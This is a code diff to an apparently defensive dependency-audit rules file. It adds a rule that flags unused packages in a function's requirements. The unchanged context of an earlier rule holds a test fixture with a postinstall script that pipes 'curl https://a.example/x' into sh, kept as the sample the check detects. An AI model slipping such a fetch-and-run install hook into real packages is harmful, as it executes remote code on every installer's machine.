@@ -13,6 +13,7 @@ from casemate.audit.rule import Check, Hit, Risk, Subject, entries
 from casemate.audit.rules.asked_packages import dependencies
 from casemate.audit.rules.examples import function, requirements
 from casemate.audit.rules.misleading_packages import LEFT, TRAPS
+from casemate.audit.rules.needless_packages import needless
 
 
 def _each(wrong: Callable[[Dependency], str | None]) -> Check:
@@ -187,6 +188,10 @@ def _package_json(text: str, lock: bool = False) -> dict[str, str]:
 _rule = entries(Risk.DEPENDENCIES, "SAS-09", cwe=1357, attack="T1195.001")
 
 
+_IMPORTS = (
+    "import requests\n\n\ndef handler(event, context):\n"
+    "    return requests.get('https://a.example/status', timeout=5).json()\n"
+)
 _HASH = "--hash=sha256:" + "0" * 64
 RULES = (
     _rule(
@@ -312,5 +317,17 @@ RULES = (
         _package_json('{"scripts": {"postinstall": "curl https://a.example/x | sh"}}'),
         _package_json('{"scripts": {"postinstall": "tsc"}}'),
         829,
+    ),
+    _rule(
+        "DEP-012",
+        "Package that nothing uses",
+        Severity.LOW,
+        "Its vulnerabilities are yours, its authors can run code in your function, and it makes "
+        "each start slower, for nothing.",
+        "Remove it. If something loads it that is not in these files, accept this at its line.",
+        needless,
+        {**function(code=_IMPORTS), "src/requirements.txt": "requests==2.32.3\nboto3==1.35.90\n"},
+        {**function(code=_IMPORTS), "src/requirements.txt": "requests==2.32.3\n"},
+        1104,
     ),
 )
